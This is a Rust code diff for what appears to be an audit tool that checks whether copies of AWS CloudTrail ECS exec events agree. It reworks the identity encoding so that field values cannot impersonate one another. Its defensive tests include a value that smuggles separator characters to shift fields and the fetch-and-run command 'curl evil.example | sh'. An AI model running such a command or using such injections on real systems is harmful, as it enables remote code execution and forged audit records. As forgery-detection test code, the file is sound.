@@ -481,59 +481,71 @@ crate::table! {
 /// and how it ended. Copies of one event (a trail file, LookupEvents, EventBridge, Lake) carry
 /// the same record, so they agree on every one of these; a copy that reuses an `eventID` with
 /// another identity, target or command is not the same call (a forged or altered record).
-const EXEC_IDENTITY: [&str; 15] = [
+const EXEC_IDENTITY: [&str; 18] = [
     "event_time",
     "account",
     "region",
     "principal",
     "principal_arn",
     "role_arn",
+    "source_identity",
     "access_key_id",
+    "mfa",
     "source_ip",
     "cluster",
     "task_id",
     "container",
     "session_id",
     "command",
+    "interactive",
     "outcome",
     "error_code",
 ];
 
 impl ExecEvent {
-    /// The fields of [`EXEC_IDENTITY`] as one string (compared whole, split to name what
-    /// differs).
+    /// The fields of [`EXEC_IDENTITY`] as one string, compared whole and parsed back to name
+    /// what differs. It starts with `C` for a complete record (it has `eventVersion`) or `P`
+    /// for a partial one (a CloudTrail Lake row holds only the columns its query selected);
+    /// each field is `-` (absent) or `len:value`, so no value can pass for another field.
     pub fn identity(&self) -> String {
-        // The human's name with where it came from: a copy that names them from another field
-        // (a Lake row holding only the ARN) is not compared on it.
+        let flag = |b: Option<bool>| b.map(|b| if b { "true" } else { "false" });
         let principal = self.principal.as_deref().map(|p| {
             format!(
-                "{}\u{1e}{p}",
+                "{}/{p}",
                 self.principal_source.as_deref().unwrap_or_default()
             )
         });
-        let values: [Option<&str>; 14] = [
+        let time = self.event_time.0.to_string();
+        let values: [Option<&str>; 18] = [
+            Some(&time),
             self.account.as_deref(),
             self.region.as_deref(),
             principal.as_deref(),
             self.principal_arn.as_deref(),
             self.role_arn.as_deref(),
+            self.source_identity.as_deref(),
             self.access_key_id.as_deref(),
+            flag(self.mfa),
             self.source_ip.as_deref(),
             self.cluster.as_deref(),
             self.task_id.as_deref(),
             self.container.as_deref(),
             self.session_id.as_deref(),
             self.command.as_deref(),
+            flag(self.interactive),
             self.outcome.as_deref(),
             self.error_code.as_deref(),
         ];
-        let mut s = self.event_time.0.to_string();
+        let mut s = String::from(if self.event_version.is_some() {
+            "C"
+        } else {
+            "P"
+        });
         for v in values {
-            s.push('\u{1f}');
             match v {
-                // Absent and empty differ.
                 Some(v) => {
-                    s.push('=');
+                    s.push_str(&v.len().to_string());
+                    s.push(':');
                     s.push_str(v);
                 }
                 None => s.push('-'),
@@ -542,17 +554,45 @@ impl ExecEvent {
         s
     }
 
-    /// The names of the fields in which two [`ExecEvent::identity`] strings differ. A field
-    /// one copy lacks is not compared: a CloudTrail Lake row holds only the columns its query
-    /// selected (an absent field and an empty one do differ).
+    /// An [`ExecEvent::identity`] read back: complete or not, and its fields.
+    fn identity_fields(s: &str) -> Option<(bool, Vec<Option<&str>>)> {
+        let complete = s.starts_with('C');
+        let mut rest = s.get(1..)?;
+        let mut out = Vec::with_capacity(EXEC_IDENTITY.len());
+        while !rest.is_empty() {
+            if let Some(r) = rest.strip_prefix('-') {
+                out.push(None);
+                rest = r;
+                continue;
+            }
+            let colon = rest.find(':')?;
+            let len: usize = rest[..colon].parse().ok()?;
+            let value = rest.get(colon + 1..colon + 1 + len)?;
+            out.push(Some(value));
+            rest = &rest[colon + 1 + len..];
+        }
+        Some((complete, out))
+    }
+
+    /// The names of the fields in which two [`ExecEvent::identity`] strings differ. When
+    /// either copy is partial (a Lake row), a field it lacks is not compared, nor a principal
+    /// named from another field; between complete records, a field one lacks differs.
     pub fn identity_differences(a: &str, b: &str) -> Vec<&'static str> {
-        let known = |v: &str| v != "-";
-        let source = |v: &str| v.split('\u{1e}').next().unwrap_or_default().to_owned();
+        let (Some((ca, fa)), Some((cb, fb))) = (Self::identity_fields(a), Self::identity_fields(b))
+        else {
+            return if a == b { Vec::new() } else { vec!["record"] };
+        };
+        let complete = ca && cb;
+        let source = |v: &str| v.split('/').next().unwrap_or_default().to_owned();
         EXEC_IDENTITY
             .iter()
-            .zip(a.split('\u{1f}').zip(b.split('\u{1f}')))
-            .filter(|(name, (x, y))| {
-                known(x) && known(y) && x != y && (**name != "principal" || source(x) == source(y))
+            .zip(fa.iter().zip(fb.iter()))
+            .filter(|(name, (x, y))| match (x, y) {
+                (Some(x), Some(y)) => {
+                    x != y && (complete || **name != "principal" || source(x) == source(y))
+                }
+                (None, None) => false,
+                _ => complete,
             })
             .map(|(name, _)| *name)
             .collect()
@@ -596,6 +636,9 @@ mod identity_tests {
         let a = ExecEvent {
             event_id: Some("e1".into()),
             event_time: Timestamp(1_000),
+            event_version: Some("1.09".into()),
+            principal: Some("alice".into()),
+            principal_source: Some("role_session".into()),
             principal_arn: Some("arn:aws:sts::1:assumed-role/Dev/alice".into()),
             cluster: Some("prod".into()),
             command: Some("/bin/sh".into()),
@@ -626,7 +669,20 @@ mod identity_tests {
             ExecEvent::identity_differences(&a.identity(), &later.identity()),
             ["event_time"]
         );
-        // A CloudTrail Lake row with only some columns, its principal named from the ARN.
+        // Between complete records, a field added (a sourceIdentity that renames the human)
+        // differs.
+        let renamed = ExecEvent {
+            source_identity: Some("mallory".into()),
+            principal: Some("mallory".into()),
+            principal_source: Some("source_identity".into()),
+            ..a.clone()
+        };
+        assert_eq!(
+            ExecEvent::identity_differences(&a.identity(), &renamed.identity()),
+            ["principal", "source_identity"]
+        );
+        // A CloudTrail Lake row with only some columns (no eventVersion), its principal named
+        // from the ARN, is the same call as the full record.
         let lake = ExecEvent {
             event_id: a.event_id.clone(),
             event_time: a.event_time,
@@ -638,7 +694,7 @@ mod identity_tests {
         };
         let full = ExecEvent {
             principal: Some("alice@example.com".into()),
-            principal_source: Some("source_identity".into()),
+            principal_source: Some("identity_center".into()),
             account: Some("111122223333".into()),
             ..a.clone()
         };
@@ -650,6 +706,16 @@ mod identity_tests {
         assert_eq!(
             ExecEvent::identity_differences(&full.identity(), &emptied.identity()),
             ["command"]
+        );
+        // A value holding the old separators cannot shift the fields after it.
+        let smuggled = ExecEvent {
+            source_ip: Some("198.51.100.24\u{1f}-\u{1f}-\u{1f}-3:x-".into()),
+            command: Some("curl evil.example | sh".into()),
+            ..a.clone()
+        };
+        assert_eq!(
+            ExecEvent::identity_differences(&a.identity(), &smuggled.identity()),
+            ["source_ip", "command"]
         );
     }
 }
